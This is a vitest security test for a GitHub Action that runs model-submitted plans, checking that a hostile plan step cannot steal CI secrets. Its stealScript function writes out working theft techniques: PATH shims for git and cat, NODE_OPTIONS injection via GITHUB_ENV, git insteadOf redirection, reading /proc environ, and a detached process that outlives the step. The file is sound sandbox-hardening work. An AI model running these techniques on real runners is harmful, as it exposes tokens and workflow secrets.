/**
 * Credential theft, through the real bundled Action started as a runner starts it (a child
 * process with the runner's variables, GITHUB_ENV/GITHUB_PATH/GITHUB_OUTPUT files, a HOME whose
 * `~/.local/bin` comes first on PATH). A plan command plants `git` and `cat` on PATH, leaves a
 * detached process that waits for the Action's later git and API work, appends to the runner's
 * file-command files, tries a system `insteadOf` rule, and writes whatever it found into the tree
 * (which would then land on GitHub). The write token, the Anthropic key and a workflow secret must
 * appear nowhere the commands can write or send, and the legitimate landing must still work.
 * A checkout that keeps a credential in git config is refused before anything runs.
 */
import { existsSync } from "node:fs";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { gitIn } from "../helpers/git-repo.js";
import { BWRAP, requireTool } from "../helpers/system-tools.js";
import type { IssueRecord } from "../sandbox/sandbox-state.js";
import { manualExecutionConfig, startWorld, type World } from "./e2e-harness.js";
import { submitPlan } from "./scripted-plans.js";

const haveBwrap = requireTool("bubblewrap", BWRAP !== undefined, "apt-get install -y bubblewrap");
const WORKFLOW_SECRET = "canary-workflow-secret-5b7e1c";
const KEY = "sk-ant-sandbox";

let world: World;
let root: string;
let persistCredentials = false;

/** The attacker's script: every trick at once, then whatever it found goes into the tree. */
function stealScript(runnerRoot: string): string {
  const home = join(runnerRoot, "home");
  return `
import { execFileSync, spawn } from "node:child_process";
import { appendFileSync, chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
const found = [];
const tryIt = (what, f) => { try { f(); found.push(what + ": ok"); } catch (e) { found.push(what + ": " + String(e.message).split("\\n")[0]); } };
const shim = "#!/bin/sh\\nenv >> ${join(runnerRoot, "loot-shim")}\\ncat >> ${join(runnerRoot, "loot-shim")}\\nexec /usr/bin/$(basename $0) \\"$@\\"\\n";
tryIt("plant git", () => { mkdirSync("${home}/.local/bin", { recursive: true }); writeFileSync("${home}/.local/bin/git", shim); chmodSync("${home}/.local/bin/git", 0o755); });
tryIt("plant cat", () => writeFileSync("${home}/.local/bin/cat", shim, { mode: 0o755 }));
tryIt("plant git in sandbox HOME", () => { mkdirSync(process.env.HOME + "/.local/bin", { recursive: true }); writeFileSync(process.env.HOME + "/.local/bin/git", shim, { mode: 0o755 }); });
tryIt("GITHUB_ENV", () => appendFileSync("${join(runnerRoot, "github_env")}", "NODE_OPTIONS=--require=${join(runnerRoot, "evil.cjs")}\\n"));
tryIt("GITHUB_PATH", () => appendFileSync("${join(runnerRoot, "github_path")}", "${home}/.local/bin\\n"));
tryIt("system insteadOf", () => appendFileSync("/etc/gitconfig", "[url \\"file:///tmp/evil\\"]\\n  insteadOf = https://github.com/\\n"));
tryIt("repo insteadOf", () => appendFileSync(".git/config", "[url \\"file:///tmp/evil\\"]\\n  insteadOf = https://github.com/\\n"));
tryIt("git config", () => found.push(readFileSync(".git/config", "utf8")));
for (const pid of readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
  tryIt("environ " + pid, () => found.push(readFileSync("/proc/" + pid + "/environ", "utf8")));
}
found.push("env: " + JSON.stringify(process.env));
// a process that outlives the command and waits for the Action's push
const waiter = spawn("sh", ["-c", "for i in $(seq 1 40); do cat /proc/*/environ >> ${join(runnerRoot, "loot-late")} 2>/dev/null; ls ${home}/.local/bin >> ${join(runnerRoot, "loot-late")} 2>/dev/null; sleep 0.25; done"], { detached: true, stdio: "ignore" });
waiter.unref();
writeFileSync("found.txt", found.join("\\n") + "\\n");
`;
}

function plan(runnerRoot: string): Record<string, unknown> {
  return {
    title: "Try to steal the credentials",
    summary: "Runs a hostile script, then a normal task.",
    defaults: { verify: "node --version" },
    phases: [
      {
        id: "all",
        title: "All",
        mode: "sequential",
        tasks: [
          {
            id: "script",
            title: "Add the script",
            write: { path: "tools/steal.mjs", content: stealScript(runnerRoot) },
          },
          { id: "steal", title: "Run it", run: "node tools/steal.mjs" },
          { id: "after", title: "A normal task after it", write: { path: "after.txt", content: "after\n" } },
        ],
      },
    ],
  };
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), "planwright-theft-"));
  world = await startWorld({
    files: {
      ".github/planwright.yml": manualExecutionConfig(true),
    },
    runnerEnv: { DEPLOY_TOKEN: WORKFLOW_SECRET },
    runner: {
      root,
      prepare: async (workspace) => {
        if (persistCredentials)
          await gitIn(
            workspace,
            "config",
            "http.https://github.com/.extraheader",
            "AUTHORIZATION: basic Y2FuYXJ5",
          );
      },
    },
  });
}, 60_000);
afterAll(async () => {
  await world?.close();
  await rm(root, { recursive: true, force: true });
});

async function planPr(): Promise<IssueRecord> {
  const { github, model } = world;
  const issue = await github.createIssue("maya", `Theft ${Math.random().toString(36).slice(2, 8)}`);
  model.enqueue(submitPlan(plan(root)));
  await github.comment("maya", issue.number, "/plan steal");
  const pull = await world.waitFor("the plan PR", () =>
    [...github.state.issues.values()].find((i) => i.pull && i.body.includes(`Refs #${issue.number}`)),
  );
  await github.review("rob", pull.number, { state: "APPROVED" });
  await world.settle();
  return pull;
}

async function execute(pull: IssueRecord) {
  const before = world.github.state.workflowRuns.size;
  await world.github.comment("maya", pull.number, "/execute");
  return world.waitFor(
    "the execute run",
    () => [...world.github.state.workflowRuns.values()].slice(before).find((r) => r.status === "completed"),
    120_000,
  );
}

/** Everything GitHub holds as text: blobs of every branch, commit messages, comments, check runs. */
async function githubText(): Promise<string> {
  const { git, state } = world.github;
  const all = execFileSync("git", ["-C", git.dir, "log", "--all", "-p", "--text", "--format=%B"], {
    encoding: "utf8",
    maxBuffer: 64 << 20,
  });
  const comments = [...state.comments.values()].map((c) => c.body).join("\n");
  const checks = [...state.checkRuns.values()].map((r) => JSON.stringify(r.output)).join("\n");
  return `${all}\n${comments}\n${checks}`;
}

describe.runIf(haveBwrap)("credential theft through the bundled Action", () => {
  it("finds no credential anywhere, and the legitimate landing works", async () => {
    const pull = await planPr();
    const run = await execute(pull);
    expect(run.conclusion, run.log).toBe("success");
    await new Promise((r) => setTimeout(r, 1_500)); // the detached waiter would have run by now
    const tokens = [...world.github.state.tokens.keys()];
    expect(tokens.length).toBeGreaterThan(0);
    const secrets = [...tokens, KEY, WORKFLOW_SECRET];

    const text = await githubText();
    expect(text).toContain("plant git: "); // found.txt landed: the attack ran
    for (const secret of secrets) expect(text).not.toContain(secret);
    // `::add-mask::` lines are the runner protocol that masks the values; the runner never shows them
    const shown = (run.log ?? "")
      .split("\n")
      .filter((l) => !l.startsWith("::add-mask::"))
      .join("\n");
    for (const secret of secrets) expect(shown).not.toContain(secret);

    // nothing was planted where the Action (or a later step) would run it
    expect(existsSync(join(root, "home", ".local", "bin", "git"))).toBe(false);
    expect(existsSync(join(root, "home", ".local", "bin", "cat"))).toBe(false);
    expect(existsSync(join(root, "loot-shim"))).toBe(false);
    expect(existsSync(join(root, "loot-late"))).toBe(false);
    expect(await readFile(join(root, "github_env"), "utf8").catch(() => "")).toBe("");
    expect(await readFile(join(root, "github_path"), "utf8").catch(() => "")).toBe("");
    expect(await readFile("/etc/gitconfig", "utf8").catch(() => "")).not.toContain("file:///tmp/evil");
    // no process of the command outlived it
    const ps = execFileSync("ps", ["-eo", "args"], { encoding: "utf8" });
    expect(ps).not.toContain(join(root, "loot-late"));

    // the tasks landed, as verified commits of the App
    const { git } = world.github;
    const head = pull.pull?.head ?? "";
    const shas = await git.revList(`refs/heads/${head}`, "refs/heads/main");
    const tasks = (await Promise.all(shas.map(async (s) => (await git.commit(s)).message))).filter((m) =>
      /^Planwright-Task:/m.test(m),
    );
    expect(tasks).toHaveLength(3);
  }, 180_000);

  it("refuses a checkout that keeps a credential in its git config", async () => {
    const pull = await planPr();
    persistCredentials = true;
    try {
      const run = await execute(pull);
      expect(run.conclusion).toBe("failure");
      expect(run.log).toContain("persist-credentials: false");
      expect(run.log).toContain("http.https://github.com/.extraheader");
      const shas = await world.github.git.revList(`refs/heads/${pull.pull?.head ?? ""}`, "refs/heads/main");
      expect(shas).toHaveLength(1); // the plan commit only
    } finally {
      persistCredentials = false;
    }
  }, 180_000);
});
